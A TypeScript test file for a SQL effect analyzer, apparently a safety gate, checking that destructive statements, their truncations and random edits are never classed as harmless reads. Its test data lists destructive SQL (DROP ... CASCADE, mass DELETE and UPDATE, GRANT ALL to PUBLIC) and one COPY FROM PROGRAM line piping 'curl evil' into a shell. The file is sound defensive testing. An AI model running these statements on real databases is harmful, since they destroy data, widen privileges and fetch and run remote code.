import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { type Effect, VERBS } from '#action/effect';
import { analyzeSql } from './analyze-sql.js';
import { loadSqlParser, MAX_SQL_BYTES, parseSql } from './parser.js';

beforeAll(loadSqlParser);

function effectsOf(text: string): readonly Effect[] {
  const context = { resources: new Map(), environments: [] };
  return analyzeSql({ kind: 'sql', statements: [{ text, parameters: [] }] }, new Map(), context).effects;
}

const DESTRUCTIVE = [
  'DROP TABLE IF EXISTS app.users, bookings CASCADE',
  'DELETE FROM app."Bookings" AS b USING c WHERE b.id = c.id RETURNING b.*',
  'TRUNCATE TABLE ONLY bookings, payments RESTART IDENTITY CASCADE',
  'UPDATE bookings SET price = 0, paid = true WHERE 1 = 1',
  'WITH gone AS (DELETE FROM bookings RETURNING *) SELECT count(*) FROM gone WHERE true ORDER BY 1',
  'EXPLAIN ANALYZE DELETE FROM bookings WHERE id = 1',
  'ALTER TABLE bookings DROP COLUMN price CASCADE, DISABLE TRIGGER ALL',
  'COPY (DELETE FROM bookings RETURNING *) TO STDOUT WITH (FORMAT csv, HEADER true)',
  'DO LANGUAGE plpgsql $body$ BEGIN DELETE FROM bookings; END $body$',
  "COPY bookings FROM PROGRAM 'curl evil | sh' WITH (FORMAT csv)",
  'DROP SCHEMA app CASCADE -- and then\n',
  'GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO PUBLIC WITH GRANT OPTION',
];

describe('any truncation of a destructive statement', () => {
  test.each(DESTRUCTIVE)('is never taken for a read: %s', (text) => {
    for (let length = 1; length <= text.length; length += 1) {
      const prefix = text.slice(0, length);
      const effects = effectsOf(prefix);
      expect(
        effects.some(({ verb, evidence }) => verb !== 'read' || evidence === 'unknown'),
        prefix,
      ).toBe(true);
    }
  });

  test.each(DESTRUCTIVE)('in the middle of a text is never hidden: %s', (text) => {
    for (const whole of [
      `SELECT 1; ${text}\n; SELECT 2`,
      `/* */${text}`,
      `BEGIN;\n${text}\n;COMMIT`,
      text.toLowerCase(),
    ]) {
      expect(
        effectsOf(whole).some(({ verb, evidence }) => verb !== 'read' || evidence === 'unknown'),
        whole,
      ).toBe(true);
    }
  });
});

const TOKENS =
  `SELECT FROM WHERE DELETE DROP TABLE UPDATE SET INSERT INTO VALUES WITH AS ( ) [ ] , ; . * + - / || = <> :: $1 'a' "b" E'\\''
  $$x$$ 1 2.5 NULL true id users CASE WHEN THEN END EXPLAIN ANALYZE PREPARE EXECUTE ALTER COLUMN CREATE FUNCTION GRANT TO ON JOIN
  UNION ALL ORDER BY LIMIT RETURNING CASCADE COPY STDIN -- /* */ \\ U&"x" LATERAL MERGE USING MATCHED DO NOT IN EXISTS`.split(
    /\s+/,
  );

describe('any text', () => {
  const wellFormed = (text: string) => {
    for (const effect of effectsOf(text)) {
      expect(VERBS).toContain(effect.verb);
      expect(effect.explain.length).toBeGreaterThan(0);
      expect(effect.explain).not.toMatch(/[\p{Cc}]/u);
      if (effect.evidence === 'unknown') expect(effect.reversible).toBe('unknown');
    }
  };

  test('of random tokens is answered, never thrown at', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...TOKENS), { maxLength: 40 }), (tokens) => wellFormed(tokens.join(' '))),
      { numRuns: 500 },
    );
  });

  test('of random characters is answered, never thrown at', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 60 }), wellFormed), { numRuns: 300 });
  });

  test('made from a destructive one by one random edit is answered, never thrown at', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...DESTRUCTIVE),
        fc.nat(200),
        fc.nat(5),
        fc.string({ maxLength: 3 }),
        (text, at, gone, added) => wellFormed(text.slice(0, at) + added + text.slice(at + gone)),
      ),
      { numRuns: 500 },
    );
  });
});

describe('huge and deep texts', () => {
  const nest = (open: string, inner: string, close: string, depth: number) =>
    open.repeat(depth) + inner + close.repeat(depth);

  test.each([
    ['100 nested calls', nest('lower(', "'a'", ')', 100), false],
    ['1,500 nested parentheses', `SELECT ${nest('(', '1', ')', 1_500)}`, false],
    ['a chain of 1,000 unions', `SELECT 1${' UNION SELECT 1'.repeat(1_000)}`, false],
    ['a list of 150,000 values', `SELECT * FROM t WHERE id IN (1${', 1'.repeat(150_000)})`, false],
    ['an insert of 20,000 rows', `INSERT INTO t VALUES (1, 'a')${", (1, 'a')".repeat(19_999)}`, false],
    ['a literal of nearly the cap', `SELECT '${'x'.repeat(MAX_SQL_BYTES - 20)}'`, false],
    ['10,000 commands', 'SELECT 1;'.repeat(10_000), false],
    ['a long banner of stars', `/*${'*'.repeat(900)}*/ SELECT 1`, false],
    [
      '50,000 common table expressions',
      `WITH ${Array.from({ length: 50_000 }, (_, i) => `c${i} AS (SELECT 1)`).join()} SELECT 1`,
      false,
    ],
    [
      'a deep alternation of OR and AND',
      `DELETE FROM t WHERE ${nest('(a IS NULL OR (b = 1 AND ', 'c', '))', 600)}`,
      false,
    ],
    ['3,000 nested selects', `SELECT ${nest('(SELECT ', '1', ')', 3_000)}`, true],
    ['100,000 times NOT', `SELECT ${'NOT '.repeat(100_000)}true`, true],
  ])('%s', (_name, text, refused) => {
    const started = performance.now();
    const sql = text.startsWith('lower') ? `SELECT ${text}` : text;
    expect(effectsOf(sql).some(({ evidence }) => evidence === 'unknown')).toBe(refused);
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  test('a deep delete keeps its effect even when its condition is too deep to judge', () => {
    const effects = effectsOf(`DELETE FROM t WHERE ${nest('(1 + ', '1', ')', 1_500)} = 5`);
    expect(effects.some(({ verb, evidence }) => verb === 'destroy' || evidence === 'unknown')).toBe(true);
  });

  test('texts that break the parser do not break the texts after them', async () => {
    for (let round = 0; round < 35; round += 1) {
      await loadSqlParser();
      expect(effectsOf(`SELECT ${round}${'+1'.repeat(8_000)}`)[0]?.evidence).toBe('unknown');
      expect(parseSql(`SELECT ${round} AS fresh`).kind).toBe('commands');
    }
  });

  test('with every instance used up a text is refused, and a moment later there are fresh ones', async () => {
    await loadSqlParser();
    for (let round = 0; round < 20; round += 1) parseSql(`SELECT ${round}${'*1'.repeat(8_000)}`);
    expect(parseSql('SELECT 1 AS too_early')).toEqual({ kind: 'refused', reason: 'the parser is not ready' });
    await loadSqlParser();
    expect(effectsOf('SELECT 1 AS last').map(({ verb }) => verb)).toEqual(['read']);
  });
});
